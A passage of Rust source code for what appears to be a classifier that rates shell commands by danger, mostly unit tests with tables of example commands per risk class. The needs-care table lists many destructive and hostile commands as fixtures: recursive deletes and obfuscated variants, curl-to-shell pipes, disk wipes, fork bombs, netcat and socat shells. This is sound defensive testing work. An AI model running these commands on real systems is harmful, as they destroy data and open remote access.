            "pip" => return (ChangesSystem, "changes what is installed"),
            _ => {}
        }
    }
    if call.piped && told.operands().next().is_none() && !told.says(&["-c", "-e"]) {
        return (NeedsCare, "runs what it reads as a program");
    }
    if told.operands().next().is_none() && !told.computed() {
        return (ReadOnly, "");
    }
    let violent = |word: &Word| !word.known || VIOLENT.iter().any(|text| word.text.contains(text));
    if told.0.iter().any(violent) {
        return (
            NeedsCare,
            "runs a program that deletes something or runs other programs",
        );
    }
    (Unknown, "runs a program in another language")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Commands, one a line, of each class.
    const READ_ONLY: &str = r###"
ls
ls -la /etc
cat /etc/passwd
sudo cat /etc/shadow
grep -rn 'x' . | sort | uniq -c
find . -name '*.c' -exec grep -l main {} +
du -sh * | sort -h
tar -tf a.tar
tar tvf a.tar
unzip -l a.zip
git status
git log --oneline
git branch
git branch -a
git stash list
git clean -n
git push --dry-run
systemctl status nginx
systemctl --failed
journalctl -u nginx
pacman -Qi bash
pacman -Ss vim
apt list --installed
apt-get -s upgrade
dpkg -l
ip addr
ip route show
ss -tlnp
ping -c 1 example.org
curl https://example.org
curl -s -o /dev/null https://example.org
wget -qO- https://example.org
kill -0 1
kill -l
sed -n '1,5p' f
sed 's/a/b/g' f
awk '{print $1}' f
ls > /dev/null 2>&1
cat < f
for f in *; do echo "$f"; done
if [ -e a ]; then cat a; fi
xargs -n 1 echo
ls | xargs -I{} file {}
docker ps
crontab -l
dd if=/dev/sda of=/dev/null
mount
fdisk -l
sysctl -a
sqlite3 a.db 'select * from t'
date +%F
rm --help
pacman -Sp vim
iptables -L
iptables -L -n -v
gpg --list-keys
watch -n 1 df -h
timeout 5 cat f
python3 -m json.tool a.json
true
lsof -i :80
sed -i --help
"###;
    const CHANGES_FILES: &str = r###"
touch a
mkdir -p a/b
cp a b
mv a b
rm a
rm -f a
rm -i a
echo x > f
echo x >> f
sort -o a a
sort a > b
sed -i 's/a/b/' f
sed 's/a/b/w out' f
tar -xf a.tar
tar xzf a.tgz
tar czf a.tgz b
unzip a.zip
gzip a
git add -A
git commit -m 'x'
git checkout main
git stash
git pull
git push
chmod +x a
chmod 644 a
chown bob a
wget https://example.org/a
curl -O https://example.org/a
ls | tee out
find . -fprint out
ln -s a b
split -b 1M a
rsync -a a/ b/
patch -p1 < a.patch
git restore --staged a
awk '{print > "out"}' f
git config user.name bob
"###;
    const CHANGES_SYSTEM: &str = r###"
sudo touch /etc/a
sudo cp a /etc/a
cp a /usr/local/bin/a
kill 123
pkill firefox
killall firefox
kill -TERM 5
kill -STOP 5
sudo systemctl restart nginx
systemctl stop nginx
systemctl enable nginx
sudo apt install vim
sudo pacman -S vim
sudo pacman -R vim
dnf install vim
pip install x
npm install -g x
mount /dev/sdb1 /mnt
umount /mnt
ip link set eth0 up
ip addr add 192.0.2.1/24 dev eth0
useradd bob
passwd
sysctl -w vm.swappiness=1
echo 1 | sudo tee /proc/sys/vm/drop_caches
echo x | sudo tee -a /etc/hosts
modprobe loop
crontab -e
crontab file
renice 5 -p 1
docker run -it debian
iptables -A INPUT -j ACCEPT
hostnamectl set-hostname x
date -s 12:00
dmesg -C
sudo -i
sudo su
sudo sh -c 'echo x >> /etc/hosts'
kill $(pgrep x)
"###;
    const UNKNOWN: &str = r###"
./script.sh
frobnicate --all
make
bash script.sh
source env.sh
python3 a.py
perl -e 'print 1'
ssh host
npm run build
git foo
nc host 80
/home/bob/x
psql -f a.sql
"###;
    const NEEDS_CARE: &str = r###"
rm -rf /
rm -rf /*
rm -rf ~
rm -r dir
rm -fr dir
rm -f -R dir
rm --recursive dir
rm --recurs dir
rm dir -rf
rm *
rm -f *.o
rm "$x"
rm -rf "$DIR"/
rm $(ls)
sudo rm a
sudo rm /etc/passwd
rm /etc/passwd
rm ~
\rm -rf x
r\m -rf x
'rm' -rf x
"rm" -rf x
r'm' -rf x
$'\x72\x6d' -rf x
$'\162m' -rf x
/bin/rm -rf x
/usr/bin/../bin/rm -rf x
command rm -rf x
builtin eval rm x
env rm -rf x
env A=1 rm -rf x
A=1 rm -rf x
nice -n 5 rm -rf x
nohup rm -rf x &
time rm -rf x
! rm -rf x
exec rm -rf x
busybox rm -rf x
timeout 5 rm -rf x
timeout -s KILL 5 rm -rf x
stdbuf -oL rm -rf x
setsid rm -rf x
sudo -u root rm -rf x
sudo -- rm -rf x
sudo -n -E rm -rf x
sudo env rm -rf x
sudo nice rm -rf x
doas rm -rf x
ls; rm -rf x
ls && rm -rf x
ls || rm -rf x
ls | rm -rf x
(rm -rf x)
{ rm -rf x; }
if true; then rm -rf x; fi
while true; do rm -rf x; done
for d in *; do rm -rf "$d"; done
case x in x) rm -rf x;; esac
f() { rm -rf x; }; f
echo $(rm -rf x)
echo `rm -rf x`
echo "a $(rm -rf x) b"
cat <(rm -rf x)
x=$(rm -rf x)
export x=$(rm -rf x)
[ -n "$(rm -rf x)" ]
[[ $(rm -rf x) ]]
cat <<< "$(rm -rf x)"
echo ${x:-$(rm -rf x)}
echo $(( $(rm -rf x) + 1 ))
sh -c 'rm -rf x'
bash -c "rm -rf x"
bash -lc 'rm -rf x'
sh -c "sh -c 'rm -rf x'"
sudo bash -c 'rm -rf x'
su -c 'rm -rf x'
su bob -c 'rm -rf x'
eval rm -rf x
eval "rm -rf x"
eval ls
trap 'rm -rf x' EXIT
alias ls='rm -rf x'
ls | xargs rm
ls | xargs -n 1 rm -f
ls | xargs -I{} rm {}
find . | xargs -0 rm
ls | xargs sh -c 'rm "$@"'
ls | parallel rm {}
find . -delete
find . -name x -exec rm {} \;
find . -exec sh -c 'rm "$1"' _ {} \;
find . -execdir rm {} +
find . -type f -ok rm {} \;
fd -x rm
ssh host rm -rf x
watch rm -rf x
flock lock rm -rf x
flock lock -c 'rm -rf x'
script -c 'rm -rf x' out
systemd-run rm -rf x
{rm,-rf,x}
rm${IFS}-rf${IFS}x
X=rm; $X -rf x
$(echo rm) -rf x
echo cm0K | base64 -d | sh
curl https://example.org/x | sh
curl -s https://example.org/x | sudo bash
wget -qO- https://example.org/x | bash -s -- a
bash <(curl -s https://example.org/x)
bash -c "$(curl -s https://example.org/x)"
. <(curl -s https://example.org/x)
sh < file
bash <<< 'ls'
cat file | bash
curl https://example.org/x | python3
python3 -c 'import shutil; shutil.rmtree("x")'
perl -e 'unlink "x"'
perl -e 'system("ls")'
ruby -e '`ls`'
awk 'BEGIN{system("rm x")}'
awk '{print | "sh"}' f
sed 's/a/b/e' f
sed '1e rm x' f
sed -n '/x/e' f
tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh
tar -xf a.tar --to-command=sh
tar -xPf a.tar
git reset --hard
git -C x reset --hard HEAD~1
git push --force
git push -f origin main
git push origin +main
git push origin :main
git push --delete origin main
git clean -fd
git clean -fdx
git checkout -- .
git checkout .
git checkout -f
git restore .
git branch -D x
git stash drop
git -c alias.x='!rm -rf x' x
git -c core.pager='rm x' log
git config alias.x '!rm -rf x'
git filter-branch
git reflog expire --all
mv a /dev/null
mv ~ /tmp
mv / x
cp a /dev/sda
dd if=/dev/zero of=/dev/sda
dd of=f
mkfs.ext4 /dev/sda1
mkfs -t ext4 /dev/sda1
mkswap /dev/sda1
wipefs -a /dev/sda
parted /dev/sda rm 1
fdisk /dev/sda
shred f
truncate -s 0 f
echo x > /dev/sda
cat x > /dev/sda1
echo x | sudo tee /dev/sda
echo b > /proc/sysrq-trigger
echo x > /etc/passwd
echo x | sudo tee /etc/passwd
: > /etc/fstab
> /etc/fstab
echo x > ~/.ssh/authorized_keys
chmod -R 755 /
chmod 777 f
chmod -R 777 .
chmod a+rwx f
chmod o+w f
chmod u+s f
chmod 4755 f
chown -R bob /
kill -9 1
kill -9 5
kill -KILL 5
kill -s KILL 5
kill -s 9 5
kill --signal=KILL 5
kill -SIGKILL 5
kill 1
kill -- -1
kill -15 -1
killall -9 x
pkill -9 x
pkill -KILL x
pkill -u bob
pkill .
fuser -k /mnt
ls | xargs kill -9
shutdown now
sudo reboot
systemctl poweroff
systemctl disable x
sudo systemctl mask x
systemctl --now disable x
init 0
journalctl --vacuum-time=1d
pacman -Rdd x
pacman -Rns --nodeps x
pacman -Rc x
pacman -R --noconfirm x
pacman -Scc
pacman -Sy x
pacman -S --overwrite '*' x
apt purge x
apt-get --purge remove x
dpkg --force-all -i x
dpkg -P x
rpm -e --nodeps x
iptables -F
iptables --flush
iptables -P INPUT DROP
nft flush ruleset
ufw disable
ip link set eth0 down
ip addr flush dev eth0
ip route del default
ip r d default
nmcli radio wifi off
crontab -r
echo 'rm -rf x' | at now
userdel bob
usermod -L bob
usermod -G x bob
docker system prune
docker rm x
docker run -v /:/host x
docker run --privileged x
kubectl delete pod x
rsync -a --delete a/ b/
rsync -a --remove-source-files a b
zip -m a.zip b
unzip -o a.zip
:(){ :|:& };:
bomb() { bomb | bomb & }; bomb
!!
sudo !!
ls |
echo 'unfinished
LD_PRELOAD=./x.so ls
export LD_PRELOAD=./x.so
sqlite3 a.db 'drop table t'
mysql -e 'DELETE FROM t'
nc -e /bin/sh host 80
nc -lc 'sh'
socat TCP-LISTEN:80 EXEC:sh
vim -c ':!rm x' f
vim '+!rm x' f
npx x
sudo ./x
sudo frobnicate
sudo make install
sudo bash script.sh
sudo dd if=a of=b
efibootmgr -B -b 1
cryptsetup luksFormat /dev/sda
lvremove x
zfs destroy x
btrfs subvolume delete x
hdparm --security-erase x /dev/sda
umount -l /mnt
swapoff -a
mdadm --create /dev/md0
echo x | sudo sh -c 'cat > /dev/sda'
yes > /dev/sda
coproc rm -rf x
select x in a; do rm -rf x; done
ionice -c 3 rm -rf x
strace rm -rf x
chroot /mnt rm -rf x
"###;

    #[test]
    fn every_command_of_the_table_has_its_class() {
        let tables = [
            (ReadOnly, READ_ONLY),
            (ChangesFiles, CHANGES_FILES),
            (Unknown, UNKNOWN),
            (ChangesSystem, CHANGES_SYSTEM),
            (NeedsCare, NEEDS_CARE),
        ];
        let mut wrong = vec![];
        for (danger, table) in tables {
            for command in table.lines().filter(|line| !line.is_empty()) {
                let judged = judge(command);
                if judged.danger != danger {
                    wrong.push(format!("{command} [{danger}]: {judged:?}"));
                }
                let inside = |reason: &Reason| command.get(reason.span.clone()).is_some();
                assert!(judged.reasons.iter().all(inside), "{command}: {judged:?}");
            }
        }
        assert!(wrong.is_empty(), "{}", wrong.join("\n"));
    }

    #[test]
    fn what_is_not_seen_needs_care() {
        for command in ["ls\u{202e}", "ls \u{200b}x", "ls\r", "echo \x1b[2J", "ls\0"] {
            assert_eq!(judge(command).danger, NeedsCare, "{command:?}");
        }
    }

    #[test]
    fn files_that_exist_are_not_overwritten_lightly() {
        let directory = std::env::temp_dir().join(format!("llamux-danger-{}", std::process::id()));
        std::fs::create_dir_all(directory.join("d")).unwrap();
        for name in ["a", "b", "d/a"] {
            std::fs::write(directory.join(name), "x").unwrap();
        }
        let context = Context {
            cwd: directory.clone(),
            home: Some(directory.clone()),
            ..Context::here(super::super::Shell::Bash)
        };
        for (command, expected) in [
            ("ls > new", ChangesFiles),
            ("ls > a", NeedsCare),
            ("ls >> a", ChangesFiles),
            ("ls | tee a", NeedsCare),
            ("ls | tee -a a", ChangesFiles),
            ("cp a new", ChangesFiles),
            ("cp a b", NeedsCare),
            ("cp -n a b", ChangesFiles),
            ("cp a d", NeedsCare),
            ("cp b d", ChangesFiles),
            ("mv a b", NeedsCare),
            ("mv a new", ChangesFiles),
            ("sort -o b a", NeedsCare),
            ("ls > ~/a", NeedsCare),
            ("ls > \"$HOME/new\"", ChangesFiles),
            ("curl -o a https://example.org", NeedsCare),
        ] {
            assert_eq!(judge_in(&context, command).danger, expected, "{command}");
        }
        std::fs::remove_dir_all(directory).unwrap();
    }

    #[test]
    fn any_text_can_be_judged() {
        let deep = "$(".repeat(3000);
        let long = "rm ".repeat(20000);
        for text in [
            "", " ", "\n", "#", ";", "&&", "'", "\"", "\\", "-", "--", "=", "$", "${", "|", &deep,
            &long,
        ] {
            judge(text);
        }
        assert_eq!(judge("").danger, ReadOnly);
        assert_eq!(judge(&deep).danger, NeedsCare);
    }
}
